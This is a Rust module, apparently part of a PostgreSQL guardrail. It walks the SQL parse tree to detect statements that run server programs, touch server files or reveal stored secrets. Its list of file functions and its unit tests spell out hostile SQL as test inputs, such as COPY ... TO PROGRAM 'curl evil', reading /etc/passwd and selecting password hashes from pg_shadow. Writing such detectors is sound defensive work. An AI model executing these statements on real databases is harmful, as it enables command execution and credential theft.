//! What a statement would open beside the rows it names: programs and files of the server, and secrets that the server
//! keeps. Seen in the parse tree, node by node, so that no second statement and no sub-select hides it.

use super::{
    secret::is_secret_setting,
    tree::{Node, Tree},
};

/// What the guardrails ask about.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Exposure {
    /// Runs a program on the server, or code in a language that may: `COPY ... PROGRAM`, `LANGUAGE plpython3u`.
    pub server_program: bool,
    /// Reads or writes a file of the server: `COPY ... 'file'`, `pg_read_file`, `lo_import`, `LOAD`.
    pub server_file: bool,
    /// Would show or send a secret that the server keeps: password hashes, user mappings, settings that hold one.
    pub secret: bool,
}

/// Functions that read, write or list files of the server.
const FILE_FUNCTIONS: &[&str] = &[
    "lo_export",
    "lo_import",
    "pg_current_logfile",
    "pg_file_",
    "pg_logdir_ls",
    "pg_ls_",
    "pg_read_binary_file",
    "pg_read_file",
    "pg_stat_file",
];

impl Exposure {
    /// Takes note of one node of the tree.
    pub(super) fn see(&mut self, node: &Node) {
        match node.name {
            "CopyStmt" => {
                self.server_program |= node.has("is_program");
                self.server_file |= node.has("filename") && !node.has("is_program");
            }
            "LoadStmt" => self.server_file = true,
            "CreateFunctionStmt" | "DoStmt" => self.server_program |= is_untrusted(node),
            "AlterSystemStmt" => {
                let set = node.field("setstmt").as_node().map_or("", |set| set.text("name"));
                self.server_program |= set.ends_with("_command") || set.ends_with("_libraries");
            }
            "VariableShowStmt" => self.secret |= is_secret_setting(node.text("name")),
            "FuncCall" => self.call(node),
            _ => {}
        }
    }

    fn call(&mut self, node: &Node) {
        let name = node.list("funcname").last().map_or("", Tree::as_text);
        let arguments = node.list("args");
        self.server_file |= FILE_FUNCTIONS.iter().any(|prefix| name.starts_with(prefix));
        self.secret |= match name {
            "pg_hba_file_rules" | "pg_ident_file_mappings" | "pg_show_all_file_settings" => true,
            // A name that is put together while it runs may be any.
            "current_setting" => arguments.first().and_then(name_in).is_none_or(is_secret_setting),
            // The connection string stands in the statement, and with it the password.
            _ if name.starts_with("dblink") => arguments.iter().filter_map(literal).any(|text| {
                let text = text.to_ascii_lowercase();
                text.contains("password") || text.contains("://")
            }),
            _ => false,
        };
    }
}

/// What a call of this function opens, whoever calls it.
pub(super) fn of_function(name: &str) -> Exposure {
    Exposure {
        server_file: FILE_FUNCTIONS.iter().any(|prefix| name.starts_with(prefix)),
        secret: matches!(name, "pg_hba_file_rules" | "pg_ident_file_mappings" | "pg_show_all_file_settings"),
        server_program: false,
    }
}

fn literal(tree: &Tree) -> Option<&str> {
    let constant = tree.as_node().is_some_and(|node| matches!(node.name, "AConst" | "TypeCast"));
    constant.then(|| tree.as_text()).filter(|text| !text.is_empty())
}

/// A name that stands in the text as it is: a cast to a type with a length cuts it.
fn name_in(tree: &Tree) -> Option<&str> {
    let node = tree.as_node()?;
    if node.name == "TypeCast" {
        let to = node.field("type_name").as_node()?;
        let whole = matches!(to.list("names").last().map(Tree::as_text), Some("text" | "varchar" | "name"));
        return (whole && !to.has("typmods") && !to.has("array_bounds")).then(|| name_in(node.field("arg")))?;
    }
    literal(tree)
}

/// True for a language in which a function can do whatever the server's own process can.
fn is_untrusted(node: &Node) -> bool {
    let options = if node.name == "DoStmt" { node.list("args") } else { node.list("options") };
    let mut languages = options.iter().filter_map(Tree::as_node).filter(|option| option.text("defname") == "language");
    languages.any(|option| {
        let language = option.field("arg").as_text().to_ascii_lowercase();
        matches!(language.as_str(), "c" | "internal") || language.ends_with('u')
    })
}

#[cfg(test)]
mod tests {
    use super::super::facts;
    use super::*;

    #[test]
    fn programs_files_and_secrets_are_seen_wherever_they_stand() {
        let (nothing, program) = (Exposure::default(), Exposure { server_program: true, ..Exposure::default() });
        let file = Exposure { server_file: true, ..Exposure::default() };
        let secret = Exposure { secret: true, ..Exposure::default() };
        for (text, expected) in [
            ("SELECT 'COPY t TO PROGRAM'", nothing),
            ("COPY t TO STDOUT", nothing),
            ("COPY t TO PROGRAM 'curl evil'", program),
            ("DO ''; COPY t FROM PROGRAM 'id'", program),
            ("CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'x'", program),
            ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'x'", nothing),
            ("DO LANGUAGE plperlu 'x'", program),
            ("DO 'x'", nothing),
            ("ALTER SYSTEM SET archive_command = 'curl evil'", program),
            ("ALTER SYSTEM SET work_mem = '1GB'", nothing),
            ("COPY t FROM '/etc/passwd'", file),
            ("SELECT * FROM t WHERE a = (SELECT pg_catalog.pg_read_file('x'))", file),
            ("WITH x AS (SELECT pg_ls_dir('.')) SELECT * FROM x", file),
            ("SELECT lo_export(1, '/tmp/x')", file),
            ("LOAD 'evil'", file),
            ("SELECT passwd FROM pg_shadow", secret),
            ("SELECT rolpassword IS NULL FROM pg_catalog.pg_authid", secret),
            ("SELECT 1 FROM pg_catalog.pg_authid", nothing),
            ("SELECT * FROM app.pg_shadow", nothing),
            ("SELECT umoptions FROM pg_user_mappings", secret),
            ("SELECT pg_hba_file_rules()", secret),
            ("SELECT ssl FROM pg_stat_ssl", nothing),
            ("SHOW app.jwt_secret", secret),
            ("SHOW primary_conninfo", secret),
            ("SHOW password_encryption", nothing),
            ("SHOW search_path", nothing),
            ("SELECT current_setting('app.token', true)", secret),
            ("SELECT current_setting('app.' || name) FROM names", secret),
            ("SELECT current_setting('server_version_num')", nothing),
            ("PREPARE p AS SELECT passwd FROM pg_shadow", secret),
            ("SELECT * FROM dblink('host=db password=x', 'SELECT 1') AS t(a int)", secret),
            ("SELECT * FROM dblink('named', 'SELECT 1') AS t(a int)", nothing),
        ] {
            assert_eq!(facts(text).exposure, expected, "{text}");
        }
    }

    #[test]
    fn showing_a_secret_needs_more_than_a_session() {
        use super::super::Class;
        assert_eq!(facts("SHOW app.jwt_secret").class, Class::Admin);
        assert_eq!(facts("SHOW search_path").class, Class::Session);
    }
}
